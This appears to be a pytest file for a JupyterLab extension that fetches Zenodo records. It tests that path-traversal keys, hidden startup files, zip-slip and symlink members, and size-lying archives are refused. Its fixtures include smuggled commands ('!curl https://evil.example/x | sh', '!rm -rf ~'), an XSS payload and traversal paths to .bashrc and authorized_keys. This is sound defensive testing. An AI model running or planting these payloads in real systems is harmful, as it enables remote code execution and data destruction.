"""Hostile OSSR records: file keys, zip members and metadata written by someone else.

Each record is served by the Zenodo stand-in exactly as Zenodo would serve it, fetched through the
real routes of a running server, and each case asserts the exact refusal (or escaping) and that
nothing was written outside the folder the fetch was meant to fill.
"""

# The stand-in fixture is imported here, not from the shared conftest, and tests name it.
# ruff: noqa: F811

from __future__ import annotations

import asyncio
import copy
import hashlib
import io
import itertools
import json
import stat
import zipfile
from pathlib import Path

import httpx
import pytest
from tornado.httpclient import HTTPClientError

from jupyterlab_escape.catalogue.client import ZenodoClient
from jupyterlab_escape.http import ServiceHTTP
from testbed.zenodo.pytest_plugin import zenodo_standin  # noqa: F401  (fixture)
from testbed.zenodo.seed import Record, StoredFile

from ..conftest import ZENODO_TOKEN

# The job store's saved list (jobs survive a restart); the cases check what reaches the workspace.
IGNORE: tuple[str, ...] = ("data/jupyterlab_escape/jobs-",)
_IDS = itertools.count(990001)
HIDDEN = "hidden (hidden files and folders are not written)"


@pytest.fixture
def escape_config(escape_config, zenodo_standin):  # noqa: F811
    escape_config["EscapeZenodo"] = {
        "url": zenodo_standin.url,
        "access_token": ZENODO_TOKEN,
        "max_retry_wait": 1.5,
        "retries": 1,
    }
    zenodo_standin.state.reset()
    return escape_config


def _template(state) -> dict:
    for r in state.records:
        if r.json["access"]["files"] == "public" and r.json["versions"]["is_latest"]:
            return r.json
    raise AssertionError("no public record in the seed")


def publish(
    state,
    files: dict[str, bytes],
    *,
    served: dict[str, bytes] | None = None,
    id_field: str | None = None,
    **metadata,
) -> str:
    """A record with these files (and metadata overrides) served by the stand-in; its id.
    ``served``: what the stand-in actually has (default: ``files``)."""
    rid = str(next(_IDS))
    body = copy.deepcopy(_template(state))
    body["id"] = id_field if id_field is not None else rid
    body["parent"]["id"] = f"p{rid}"
    body["_links"] = (rid, f"p{rid}", f"10.5281/zenodo.{rid}")
    body["metadata"].update({"title": "hostile: test", "version": "1.0", **metadata})
    body["metadata"]["related_identifiers"] = []
    body["files"]["entries"] = {
        key: {
            "key": key,
            "size": len(data),
            "checksum": f"md5:{hashlib.md5(data).hexdigest()}",
            "mimetype": "application/octet-stream",
            "links": {},
        }
        for key, data in files.items()
    }
    body["files"]["count"] = len(files)
    stored = {
        k: StoredFile(k, d, len(d), hashlib.md5(d).hexdigest())
        for k, d in (files if served is None else served).items()
    }
    state.by_id[rid] = Record(json=body, communities=["escape2020"], files=stored)
    return rid


def zip_of(*members: tuple[zipfile.ZipInfo | str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for info, data in members:
            archive.writestr(info, data)
    return buffer.getvalue()


def link_member(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info, target.encode()


async def refusal(jp_fetch, record_id: str, body: dict) -> tuple[int, dict]:
    try:
        await jp_fetch(
            "escape", "catalogue", "records", record_id, "fetch",
            method="POST", body=json.dumps(body),
        )  # fmt: skip
    except HTTPClientError as err:
        return err.code, json.loads(err.response.body)["error"]
    raise AssertionError("the fetch was accepted")


async def fetched(jp_fetch, record_id: str, **body) -> dict:
    response = await jp_fetch(
        "escape", "catalogue", "records", record_id, "fetch", method="POST", body=json.dumps(body)
    )
    job = json.loads(response.body)
    for _ in range(300):
        if job["state"] not in ("queued", "running"):
            return job
        await asyncio.sleep(0.05)
        response = await jp_fetch("escape", "catalogue", "jobs", job["id"])
        job = json.loads(response.body)
    raise AssertionError(f"job still {job['state']}")


async def record_of(jp_fetch, record_id: str) -> dict:
    response = await jp_fetch("escape", "catalogue", "records", record_id)
    return json.loads(response.body)


# --- record file keys -------------------------------------------------------------------------

HOSTILE_KEYS = [
    (".bashrc", f"Refused to write to '.bashrc': '.bashrc' is {HIDDEN}."),
    (
        ".local/share/jupyter/kernels/x/kernel.json",
        f"Refused to write to '.local/share/jupyter/kernels/x/kernel.json': '.local' is {HIDDEN}.",
    ),
    (
        "x/.ipython/profile_default/startup/00.py",
        f"Refused to write to 'x/.ipython/profile_default/startup/00.py': '.ipython' is {HIDDEN}.",
    ),
    ("../../escaped.txt", "Refused to write to '../../escaped.txt': it leaves the workspace."),
    ("a/../../b.txt", "Refused to write to 'a/../../b.txt': it leaves the workspace."),
    ("/etc/cron.d/x", "Refused to write to '/etc/cron.d/x': absolute paths are not allowed."),
    ("C:/x.txt", "Refused to write to 'C:/x.txt': absolute paths are not allowed."),
    ("a\x00b.txt", "Refused to write to 'a\\x00b.txt': not a plain relative path."),
    ("..\\..\\x.txt", "Refused to write to '..\\\\..\\\\x.txt': not a plain relative path."),
    (
        "n" * 256,
        f"Refused to write to '{'n' * 256}': a name is longer than 255 bytes.",
    ),
    (
        "é" * 128 + ".txt",
        f"Refused to write to '{'é' * 128}.txt': a name is longer than 255 bytes.",
    ),
]


@pytest.mark.parametrize("key, message", HOSTILE_KEYS, ids=[k[:24] for k, _ in HOSTILE_KEYS])
async def test_a_chosen_hostile_key_is_refused_before_any_job(
    jp_fetch, zenodo_standin, key, message, writes
):
    rid = publish(zenodo_standin.state, {key: writes.marker, "ok.txt": b"fine"})
    code, error = await refusal(jp_fetch, rid, {"keys": [key]})
    assert (code, error["code"], error["message"]) == (400, "bad_path", message)
    jobs = json.loads((await jp_fetch("escape", "catalogue", "jobs")).body)["jobs"]
    assert jobs == []
    writes.assert_nothing(ignore=IGNORE)


@pytest.mark.parametrize("key, message", HOSTILE_KEYS, ids=[k[:24] for k, _ in HOSTILE_KEYS])
async def test_fetching_all_files_skips_a_hostile_key_and_says_why(
    jp_fetch, jp_root_dir, zenodo_standin, key, message, writes
):
    rid = publish(zenodo_standin.state, {key: writes.marker, "ok.txt": b"fine"})
    job = await fetched(jp_fetch, rid, dest="ossr/h")
    assert job["state"] == "done", job["message"]
    assert [f["key"] for f in job["files"]] == ["ok.txt"]
    assert job["skipped"] == [{"name": key, "reason": message}]
    shown = key if len(key) <= 80 else key[:79] + "…"
    assert job["message"].startswith(f"1 file(s) verified in ossr/h. Not written: {shown} (")
    assert (Path(jp_root_dir) / "ossr/h/ok.txt").read_bytes() == b"fine"
    writes.assert_only("root_dir/ossr/h", ignore=IGNORE)
    assert writes.carrying_marker() == []


async def test_a_record_of_only_hidden_files_is_refused(jp_fetch, zenodo_standin, writes):
    rid = publish(zenodo_standin.state, {".profile": writes.marker, ".ssh/rc": writes.marker})
    code, error = await refusal(jp_fetch, rid, {})
    assert (code, error["code"]) == (400, "bad_path")
    assert error["message"] == (
        "None of this record's files can be written into the workspace: "
        f"Refused to write to '.profile': '.profile' is {HIDDEN}."
    )
    writes.assert_nothing(ignore=IGNORE)


async def test_a_hidden_destination_is_refused(jp_fetch, zenodo_standin, writes):
    rid = publish(zenodo_standin.state, {"kernel.json": writes.marker})
    code, error = await refusal(jp_fetch, rid, {"dest": ".local/share/jupyter/kernels/evil"})
    assert (code, error["code"]) == (400, "bad_path")
    assert error["message"] == (
        f"Refused to write to '.local/share/jupyter/kernels/evil': '.local' is {HIDDEN}."
    )
    writes.assert_nothing(ignore=IGNORE)


async def test_a_key_through_a_symlink_is_refused(
    jp_fetch, jp_root_dir, zenodo_standin, tmp_path, writes
):
    outside = tmp_path / "outside"
    outside.mkdir()
    folder = Path(jp_root_dir) / "ossr/s"
    folder.mkdir(parents=True)
    (folder / "link").symlink_to(outside, target_is_directory=True)
    rid = publish(zenodo_standin.state, {"link/x.txt": writes.marker})
    job = await fetched(jp_fetch, rid, dest="ossr/s")
    assert job["state"] == "failed"
    assert job["message"] == "Refused to write to 'link/x.txt': it goes through a symbolic link."
    assert list(outside.iterdir()) == []
    writes.assert_only("root_dir/ossr/s", ignore=IGNORE)


async def test_an_existing_user_file_is_never_overwritten(
    jp_fetch, jp_root_dir, zenodo_standin, writes
):
    folder = Path(jp_root_dir) / "ossr/c"
    folder.mkdir(parents=True)
    (folder / "notes.txt").write_bytes(b"the user's own notes")
    rid = publish(zenodo_standin.state, {"notes.txt": writes.marker})
    before = set(writes.changed())
    job = await fetched(jp_fetch, rid, dest="ossr/c")
    assert job["state"] == "done", job["message"]
    assert (folder / "notes.txt").read_bytes() == b"the user's own notes"
    assert (folder / "notes (1).txt").read_bytes() == writes.marker
    assert job["renamed"] == [{"name": "notes.txt", "path": "ossr/c/notes (1).txt"}]
    assert job["files"][0]["path"] == "ossr/c/notes (1).txt"
    assert job["message"] == (
        "1 file(s) verified in ossr/c. Existing files were kept: notes.txt was saved as "
        "ossr/c/notes (1).txt."
    )
    new = [p for p in writes.changed() if p not in before and not p.startswith(IGNORE)]
    assert new == ["root_dir/ossr/c/notes (1).txt"]
    writes.assert_only("root_dir/ossr/c", ignore=IGNORE)
    assert not list(folder.glob(".*.part"))


async def test_the_same_file_fetched_twice_is_not_duplicated(
    jp_fetch, jp_root_dir, zenodo_standin, writes
):
    rid = publish(zenodo_standin.state, {"data.csv": b"a,b\n1,2\n"})
    first = await fetched(jp_fetch, rid, dest="ossr/twice")
    second = await fetched(jp_fetch, rid, dest="ossr/twice")
    assert first["state"] == second["state"] == "done"
    assert second["renamed"] == [] and second["files"][0]["path"] == "ossr/twice/data.csv"
    assert sorted(p.name for p in (Path(jp_root_dir) / "ossr/twice").iterdir()) == ["data.csv"]
    writes.assert_only("root_dir/ossr/twice", ignore=IGNORE)


async def test_a_format_string_key_is_quoted_not_expanded(jp_fetch, zenodo_standin, writes):
    key = "{detail:>30000000}"
    # The record lists the file but Zenodo answers 404 for it: the error names the key.
    rid = publish(zenodo_standin.state, {key: writes.marker}, served={})
    job = await fetched(jp_fetch, rid, dest="ossr/fmt")
    assert job["state"] == "failed"
    assert job["message"] == "Zenodo has no file '{detail:>30000000}' in this record."
    writes.assert_only("root_dir/ossr/fmt", ignore=IGNORE)


async def test_braces_in_a_key_are_written_literally(jp_fetch, jp_root_dir, zenodo_standin, writes):
    rid = publish(zenodo_standin.state, {"{0}{detail}.txt": writes.marker})
    job = await fetched(jp_fetch, rid, dest="ossr/braces")
    assert job["state"] == "done", job["message"]
    assert (Path(jp_root_dir) / "ossr/braces/{0}{detail}.txt").read_bytes() == writes.marker
    writes.assert_only("root_dir/ossr/braces", ignore=IGNORE)


async def test_an_upstream_error_detail_is_bounded_and_never_a_template(zenodo_standin):
    client = ZenodoClient(ServiceHTTP(_zenodo_config(zenodo_standin)))
    detail = "{detail:>300000000}" + "x" * 5000
    response = httpx.Response(400, json={"message": detail})
    error = client._error(response, {400: ("bad_query", lambda d: f"Bad search: {d}.")})
    assert error.message == f"Bad search: {detail[:299]}…."
    error = client._error(response, {400: ("bad_query", "Fixed {detail:>300000000} text.")})
    assert error.message == "Fixed {detail:>300000000} text."
    error = client._error(httpx.Response(418, json={"message": detail}), {})
    assert error.message == f"Zenodo refused the request (HTTP 418): {detail[:299]}…."


def _zenodo_config(standin):
    from jupyterlab_escape.config import EscapeZenodo

    return EscapeZenodo(url=standin.url, max_retry_wait=1.5, retries=1, read_timeout=5.0)


# --- zip members ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "member, message",
    [
        ("../../escaped.txt", "Refused to write to '../../escaped.txt': it leaves the workspace."),
        ("/tmp/abs.txt", "Refused to write to '/tmp/abs.txt': absolute paths are not allowed."),
        (
            "..\\..\\win.txt",
            "Refused to write to '..\\\\..\\\\win.txt': not a plain relative path.",
        ),
        (
            "d/" + "z" * 300,
            f"Refused to write to 'd/{'z' * 300}': a name is longer than 255 bytes.",
        ),
    ],
    ids=["zip-slip", "absolute", "backslash", "long-name"],
)
async def test_a_zip_with_a_refused_member_is_refused_whole(
    jp_fetch, jp_root_dir, zenodo_standin, member, message, writes
):
    archive = zip_of(("first.txt", writes.marker), (member, writes.marker))
    rid = publish(zenodo_standin.state, {"tool.zip": archive})
    job = await fetched(jp_fetch, rid, dest="ossr/z", extract=True)
    assert job["state"] == "failed"
    assert job["message"] == message
    assert job["extracted"] == []
    assert sorted(p.name for p in (Path(jp_root_dir) / "ossr/z").iterdir()) == ["tool.zip"]
    writes.assert_only("root_dir/ossr/z", ignore=IGNORE)


@pytest.mark.parametrize(
    "member, reason",
    [
        (link_member("passwd", "/etc/passwd"), "symbolic link"),
        (link_member("up", "../../../.bashrc"), "symbolic link"),
        ((".ipython/profile_default/startup/00-x.py", b"import os"), "hidden"),
        (("src/.git/hooks/post-checkout", b"#!/bin/sh"), "hidden"),
    ],
    ids=["link-absolute", "link-up", "hidden-startup", "hidden-git-hook"],
)
async def test_links_and_hidden_members_are_skipped_and_reported(
    jp_fetch, jp_root_dir, zenodo_standin, member, reason, writes
):
    info, data = member
    archive = zip_of(("README.md", b"read me"), (info, data + writes.marker))
    rid = publish(zenodo_standin.state, {"tool.zip": archive})
    job = await fetched(jp_fetch, rid, dest="ossr/m", extract=True)
    assert job["state"] == "done", job["message"]
    name = info.filename if isinstance(info, zipfile.ZipInfo) else info
    assert job["extracted"] == ["ossr/m/README.md"]
    assert job["skipped"] == [{"name": name, "reason": reason}]
    assert job["message"] == (
        f"1 file(s) verified in ossr/m. 1 file(s) extracted. Not written: {name} ({reason})."
    )
    folder = Path(jp_root_dir) / "ossr/m"
    assert sorted(p.name for p in folder.iterdir()) == ["README.md", "tool.zip"]
    writes.assert_only("root_dir/ossr/m", ignore=IGNORE)
    assert writes.carrying_marker() == ["root_dir/ossr/m/tool.zip"]


async def test_a_member_lying_about_its_size_stops_extraction(
    jp_fetch, jp_root_dir, zenodo_standin, writes
):
    archive = bytearray(zip_of(("big.bin", writes.marker * 4096)))
    # Declare 10 bytes in the local header and the central directory: the data is far larger.
    archive[22:26] = (10).to_bytes(4, "little")
    central = archive.rfind(b"PK\x01\x02")
    archive[central + 24 : central + 28] = (10).to_bytes(4, "little")
    rid = publish(zenodo_standin.state, {"tool.zip": bytes(archive)})
    job = await fetched(jp_fetch, rid, dest="ossr/lie", extract=True)
    assert job["state"] == "failed"
    assert job["message"] == (
        "tool.zip is not a valid zip archive (Bad CRC-32 for file 'big.bin'); "
        "the archive was kept and extraction stopped."
    )
    assert sorted(p.name for p in (Path(jp_root_dir) / "ossr/lie").iterdir()) == ["tool.zip"]
    writes.assert_only("root_dir/ossr/lie", ignore=IGNORE)


async def test_a_member_colliding_with_a_user_file_takes_a_free_name(
    jp_fetch, jp_root_dir, zenodo_standin, writes
):
    folder = Path(jp_root_dir) / "ossr/u"
    (folder / "src").mkdir(parents=True)
    (folder / "src/analysis.py").write_text("# the user's edits\n")
    archive = zip_of(("src/analysis.py", writes.marker))
    rid = publish(zenodo_standin.state, {"tool.zip": archive})
    job = await fetched(jp_fetch, rid, dest="ossr/u", extract=True)
    assert job["state"] == "done", job["message"]
    assert (folder / "src/analysis.py").read_text() == "# the user's edits\n"
    assert (folder / "src/analysis (1).py").read_bytes() == writes.marker
    assert job["renamed"] == [{"name": "src/analysis.py", "path": "ossr/u/src/analysis (1).py"}]
    assert job["message"] == (
        "1 file(s) verified in ossr/u. 1 file(s) extracted. Existing files were kept: "
        "src/analysis.py was saved as ossr/u/src/analysis (1).py."
    )
    writes.assert_only("root_dir/ossr/u", ignore=IGNORE)


async def test_a_member_through_a_workspace_symlink_is_refused(
    jp_fetch, jp_root_dir, zenodo_standin, tmp_path, writes
):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    folder = Path(jp_root_dir) / "ossr/l"
    folder.mkdir(parents=True)
    (folder / "data").symlink_to(outside, target_is_directory=True)
    rid = publish(zenodo_standin.state, {"tool.zip": zip_of(("data/x.txt", writes.marker))})
    job = await fetched(jp_fetch, rid, dest="ossr/l", extract=True)
    assert job["state"] == "failed"
    assert job["message"] == "Refused to write to 'data/x.txt': it goes through a symbolic link."
    assert list(outside.iterdir()) == []
    writes.assert_only("root_dir/ossr/l", ignore=IGNORE)


# --- record metadata --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "version, shown, folder",
    [
        (3, "3", "ossr/hostile-3"),
        (1.5, "1.5", "ossr/hostile-1.5"),
        (["1.0", "2.0"], None, "ossr/hostile-latest"),
        ({"major": 1}, None, "ossr/hostile-latest"),
        (True, None, "ossr/hostile-latest"),
        ("../../.ssh", "../../.ssh", "ossr/hostile-ssh"),
    ],
    ids=["int", "float", "list", "object", "bool", "path"],
)
async def test_a_non_string_version_is_shown_or_dropped_never_a_500(
    jp_fetch, jp_root_dir, zenodo_standin, version, shown, folder, writes
):
    rid = publish(zenodo_standin.state, {"a.txt": b"a"}, version=version)
    record = await record_of(jp_fetch, rid)
    assert record["version"] == shown
    head = record["install"]["code"].splitlines()[0]
    valid = shown if shown and ".." not in shown else None
    assert head == "# Install hostile: test" + (f" {valid}" if valid else "")
    job = await fetched(jp_fetch, rid)
    assert job["state"] == "done", job["message"]
    assert job["dest"] == folder
    writes.assert_only(f"root_dir/{folder}", ignore=IGNORE)


async def test_the_install_cell_names_the_validated_id_not_the_upstream_one(
    jp_fetch, zenodo_standin, writes
):
    rid = publish(
        zenodo_standin.state,
        {"a.txt": b"a"},
        id_field="1\n!curl https://evil.example/x | sh",
        title="tool\n!rm -rf ~\r\u2028%pip install evil",
    )
    record = await record_of(jp_fetch, rid)
    assert record["id"] == rid
    assert record["html_url"] == f"{zenodo_standin.url}/records/{rid}"
    assert record["install"]["code"].splitlines() == [
        "# Install tool !rm -rf ~ %pip install evil 1.0",
        f"# from the ESCAPE OSSR, record {rid}. Review and edit before running.",
        "# The record names no package or code repository: fetch its files into the",
        "# workspace with 'Fetch files' in the Software Catalogue, then follow its",
        "# README.",
    ]
    writes.assert_nothing(ignore=IGNORE)


@pytest.mark.parametrize(
    "title, folder",
    [
        ("{detail:>300000000}: x", "ossr/detail-1.0"),
        ("../../.ssh/authorized_keys", "ossr/ssh-authorized-keys-1.0"),
        (
            "<img src=x onerror=alert(1)> [click](javascript:alert(1))",
            "ossr/img-src-x-onerror-alert-1-click-javascript-1.0",
        ),
    ],
    ids=["format", "path", "markdown"],
)
async def test_a_hostile_title_makes_a_plain_folder(
    jp_fetch, zenodo_standin, title, folder, writes
):
    rid = publish(zenodo_standin.state, {"a.txt": b"a"}, title=title)
    record = await record_of(jp_fetch, rid)
    assert record["title"] == title  # data for the browser, which renders it as text
    job = await fetched(jp_fetch, rid)
    assert job["state"] == "done", job["message"]
    assert job["dest"] == folder
    writes.assert_only(f"root_dir/{folder}", ignore=IGNORE)


async def test_hidden_files_are_written_only_when_the_contents_manager_shows_them(
    jp_fetch, jp_serverapp, jp_root_dir, zenodo_standin, writes
):
    rid = publish(zenodo_standin.state, {".zenodo.json": b"{}", "ok.txt": b"fine"})
    jp_serverapp.contents_manager.allow_hidden = True
    job = await fetched(jp_fetch, rid, dest="ossr/shown")
    assert job["state"] == "done", job["message"]
    assert job["skipped"] == []
    assert (Path(jp_root_dir) / "ossr/shown/.zenodo.json").read_bytes() == b"{}"
    writes.assert_only("root_dir/ossr/shown", ignore=IGNORE)


def test_user_info_in_the_zenodo_url_never_reaches_a_record_link():
    from jupyterlab_escape.catalogue import records
    from jupyterlab_escape.config import EscapeZenodo

    client = ZenodoClient(ServiceHTTP(EscapeZenodo(url="https://bob:t0ken-pw@zenodo.example")))
    summary = records.summary({"id": "42", "metadata": {"title": "t"}}, client.base_url)
    assert summary["html_url"] == "https://zenodo.example/records/42"
